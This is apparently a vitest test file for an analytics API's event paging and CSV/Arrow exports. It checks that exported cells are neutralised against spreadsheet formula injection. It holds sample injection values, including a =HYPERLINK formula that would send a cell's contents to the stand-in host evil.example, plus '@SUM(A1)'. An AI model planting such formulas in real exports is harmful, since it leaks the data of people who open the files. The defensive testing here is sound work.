import { tableFromIPC } from 'apache-arrow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NEXT_CURSOR_HEADER, eventsReadRoute } from '../api/events-route.ts';
import { reportsRoute } from '../api/reports-route.ts';
import { createAuth } from '../core/http/auth.ts';
import { type App, createHttp } from '../core/http/fastify.ts';
import { createLogger } from '../core/log.ts';
import { createMetrics } from '../core/metrics.ts';
import type { Store } from '../core/store/client.ts';
import { T0, ev, insertEvents, openTestStore } from './reports-helpers.ts';

// Exports an analyst can open and page through (docs/reports.md, "CSV" and "Paging").

let store: Store;
let close: () => Promise<void>;
let app: App;
const KEY = 'analyst-key-exports-0123456789';
const ARROW = 'application/vnd.apache.arrow.stream';
const H = 3_600_000;
const SAME_MS = T0 + 5 * H + 123;
const MANY = 10_000;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

beforeAll(async () => {
  ({ store, close } = await openTestStore());
  const auth = createAuth({ keys: [{ key: KEY, role: 'analyst' }] });
  app = await createHttp({
    logger: createLogger({ level: 'silent' }),
    bodyLimit: 1 << 20,
    metrics: createMetrics(),
  });
  await reportsRoute(app, { store, auth, storedCredits: false });
  await eventsReadRoute(app, { store, auth });
  // Ten thousand events in one millisecond, in businesses of their own.
  const same = Array.from({ length: MANY }, (_, i) =>
    ev('message.received', `u${i % 97}`, SAME_MS - T0, {
      event_id: `same-${String(i).padStart(5, '0')}`,
      business_id: 'bulk',
    }),
  );
  for (let i = 0; i < same.length; i += 2_500) await insertEvents(store, same.slice(i, i + 2_500));
  await insertEvents(store, [
    ev('message.received', EVIL, 0, { business_id: 'evil', props: { note: '-2+3', n: -5 } }),
    ev('sponsored.served', EVIL, H, {
      business_id: 'evil',
      props: { campaign_id: '@SUM(A1)', price_micros: 1 },
    }),
    ev('sponsored.clicked', EVIL, 2 * H, { business_id: 'evil', props: { campaign_id: '@SUM(A1)' } }),
  ]);
});
afterAll(async () => {
  await app?.close();
  await close();
});

const get = (url: string, accept?: string) =>
  app.inject({ url, headers: { authorization: `Bearer ${KEY}`, ...(accept ? { accept } : {}) } });
const post = (url: string, body: unknown, accept?: string) =>
  app.inject({
    method: 'POST',
    url,
    headers: {
      authorization: `Bearer ${KEY}`,
      'content-type': 'application/json',
      ...(accept ? { accept } : {}),
    },
    payload: JSON.stringify(body),
  });

/** RFC 4180 reader (quoted cells, doubled quotes, CRLF), strict about what it is given. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (c === '\n' || c === '\r') throw new Error(`bare line break at ${i}`);
    else cell += c;
  }
  if (cell !== '' || row.length) throw new Error('last line does not end with CRLF');
  return rows;
}

const arrowRows = (body: Buffer) =>
  tableFromIPC(new Uint8Array(body))
    .toArray()
    .map((r) => r.toJSON() as Record<string, unknown>);

describe('GET /v1/events pages with an opaque cursor in every format', () => {
  const base = '/v1/events?business_id=bulk&limit=1000';

  async function pageAll(format: 'json' | 'csv' | 'arrow'): Promise<string[]> {
    const ids: string[] = [];
    let cursor: string | null = null;
    for (let pages = 0; pages < 20; pages++) {
      const url = cursor ? `${base}&cursor=${cursor}` : base;
      const res = await get(url, format === 'csv' ? 'text/csv' : format === 'arrow' ? ARROW : undefined);
      expect(res.statusCode).toBe(200);
      if (format === 'json') {
        const body = res.json() as { events: { event_id: string }[]; next: string | null };
        ids.push(...body.events.map((e) => e.event_id));
        cursor = body.next;
      } else {
        if (format === 'csv') {
          const [header, ...rows] = parseCsv(res.body);
          expect(header[0]).toBe('event_id');
          ids.push(...rows.map((r) => r[0]));
        } else ids.push(...arrowRows(res.rawPayload).map((r) => String(r.event_id)));
        cursor = (res.headers[NEXT_CURSOR_HEADER] as string | undefined) ?? null;
      }
      if (!cursor) return ids;
    }
    throw new Error('paging did not end');
  }

  it.each(['json', 'csv', 'arrow'] as const)(
    '%s: 10,000 events in one millisecond, none skipped or repeated',
    async (format) => {
      const ids = await pageAll(format);
      expect(ids).toHaveLength(MANY);
      expect(new Set(ids).size).toBe(MANY);
      // Newest first, then by event_id descending: a total order.
      expect(ids).toEqual([...ids].sort().reverse());
    },
  );

  it('says there is no next page on the last one', async () => {
    const res = await get('/v1/events?business_id=evil&limit=3');
    expect(res.json().next).toBeNull();
    const csv = await get('/v1/events?business_id=evil&limit=3', 'text/csv');
    expect(csv.headers[NEXT_CURSOR_HEADER]).toBeUndefined();
    const more = await get('/v1/events?business_id=evil&limit=2', 'text/csv');
    expect(more.headers[NEXT_CURSOR_HEADER]).toEqual(expect.any(String));
  });

  it('refuses a cursor it did not write', async () => {
    const res = await get(`${base}&cursor=bm9wZQ`);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('cursor: not a cursor this API returned');
  });
});

describe('one CSV dialect', () => {
  it('writes times as ISO-8601 UTC with Z, which the API accepts back as a range bound', async () => {
    const res = await get('/v1/events?business_id=bulk&limit=1', 'text/csv');
    const [header, row] = parseCsv(res.body);
    const at = row[header.indexOf('occurred_at')];
    expect(at).toBe(new Date(SAME_MS).toISOString());
    const back = await get(`/v1/events?business_id=bulk&limit=1&to=${encodeURIComponent(at)}`);
    expect(back.statusCode).toBe(200);
    const day = await get('/v1/events?business_id=evil&from=2026-03-01&to=2026-03-02');
    expect(day.statusCode).toBe(200);
    expect(day.json().events).toHaveLength(3);
  });

  it('quotes only when needed and neutralises text cells a spreadsheet would run', async () => {
    const res = await get('/v1/events?business_id=evil', 'text/csv');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe('event_id,type,occurred_at,business_id,user_id,thread_id,channel,props');
    // Plain cells are not quoted; a cell with a quote or comma is, with quotes doubled.
    expect(lines[1]).toMatch(/^e\d+,sponsored\.clicked,2026-03-01T02:00:00\.000Z,evil,"'=HYPERLINK\(""http/);
    const rows = parseCsv(res.body).slice(1);
    for (const r of rows) expect(r[4]).toBe(`'${EVIL}`);
    const funnel = await post(
      '/v1/reports/funnel',
      {
        steps: [{ type: 'sponsored.served' }, { type: 'sponsored.clicked' }],
        window_seconds: 86_400,
        from: '2026-03-01',
        to: '2026-03-02',
        business_id: 'evil',
        breakdown: 'business_id',
      },
      'text/csv',
    );
    expect(funnel.statusCode).toBe(200);
    expect(parseCsv(funnel.body)[1]).toEqual(['evil', '1', 'sponsored.served', '1', '']);
  });

  it('neutralises streamed report cells too, but never numbers', async () => {
    const res = await get('/v1/reports/campaigns?from=2026-03-01&to=2026-03-02&business_id=evil', 'text/csv');
    expect(res.statusCode).toBe(200);
    const [header, row] = parseCsv(res.body);
    expect(row[header.indexOf('campaign_id')]).toBe("'@SUM(A1)");
    expect(row[header.indexOf('served')]).toBe('1');
    expect(row[header.indexOf('spend_micros')]).toBe('1');
    expect(res.body).not.toMatch(/"1"/);
  });
});
